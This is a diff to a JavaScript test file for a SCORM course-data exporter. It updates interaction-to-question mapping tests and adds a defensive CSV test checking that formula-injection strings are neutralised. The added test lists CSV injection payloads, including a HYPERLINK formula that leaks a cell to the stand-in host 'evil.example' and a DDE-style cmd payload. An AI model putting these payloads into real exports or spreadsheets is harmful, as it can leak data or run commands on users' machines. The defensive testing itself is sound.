@@ -7,7 +7,6 @@ import {
   outcome,
   parseCommitBody,
   parseSeconds,
-  questionLookup,
 } from './cmi.js';
 import { csvField, parseCsv, toCsv } from './csv.js';
 
@@ -74,30 +73,73 @@ describe('outcomes and interactions', () => {
     };
     assert.equal(outcome(cmi2004, 'scorm2004').assessmentAttempts, '1: failed 50%');
   });
-  it('orders interactions numerically and maps 1.2 ids to questions', () => {
-    const lookup = questionLookup([
-      { id: 'q_one', prompt: 'One?' },
-      { id: 'q', prompt: 'Short?' },
-    ]);
+  it('orders interactions numerically and maps ids to the full question in both standards', () => {
+    const course = {
+      questions: [
+        { id: 'q_one', prompt: 'One?', type: 'truefalse' },
+        { id: 'q', prompt: 'Short?', type: 'truefalse' },
+      ],
+      bank: ['q_one'],
+      checks: ['q'],
+    };
     const list = interactions(
       { interactions: { 10: { id: 'q_one_a2' }, 2: { id: 'q_one_k' }, 3: { id: 'q_k4' }, _count: '3' } },
       'scorm12',
-      lookup,
+      course,
     );
     assert.deepEqual(
-      list.map((i) => [i.index, i.question]),
+      list.map((i) => [i.index, i.question, i.kind]),
       [
-        [2, 'One?'],
-        [3, 'Short?'],
-        [10, 'One?'],
+        [2, 'One?', 'Practice check'],
+        [3, 'Short?', 'Practice check'],
+        [10, 'One?', 'Assessment, attempt 2'],
       ],
     );
-    assert.equal(lookup('q_one_x'), '');
-    assert.equal(lookup('nothing'), '');
+    const long = 'Why? '.repeat(80).trim();
+    const cut = `${long.slice(0, 249)}…`;
+    const [known, unknown] = interactions(
+      {
+        interactions: {
+          0: { id: 'q_one_a1', description: cut, learner_response: 'true', result: 'incorrect' },
+          1: { id: 'elsewhere_a1', description: 'Kept from the LMS', result: '0.5' },
+        },
+      },
+      'scorm2004',
+      { ...course, questions: [{ id: 'q_one', prompt: long, type: 'truefalse' }] },
+    );
+    assert.equal(known?.question, long, '2004: the full prompt, not the cut description');
+    assert.equal(known?.response, 'True');
+    assert.equal(
+      unknown?.question,
+      'Kept from the LMS',
+      'an id the course does not know keeps its description',
+    );
+    assert.equal(unknown?.kind, '');
+    assert.equal(unknown?.result, 'score 0.5');
   });
 });
 
 describe('CSV', () => {
+  it('neutralises cells a spreadsheet would run as formulas (OWASP): leading quote, and quoted', () => {
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1,2)',
+      '\t=1+1',
+      '\r=1+1',
+      '=Jones, Sam',
+    ];
+    for (const attack of attacks) {
+      const field = csvField(attack);
+      assert.equal(field, `"'${attack.replace(/"/g, '""')}"`, JSON.stringify(attack));
+      // What a spreadsheet reads back is text starting with the quote, never a formula.
+      assert.deepEqual(parseCsv(`${field}\r\n`), [[`'${attack}`]]);
+    }
+    assert.equal(csvField(-5), '-5', 'numbers the preview computed stay numbers');
+    assert.equal(csvField('a=b'), 'a=b', 'only a leading character makes a formula');
+  });
+
   it('quotes commas, quotes and newlines, and round-trips', () => {
     assert.equal(csvField('plain'), 'plain');
     assert.equal(csvField('a,b'), '"a,b"');
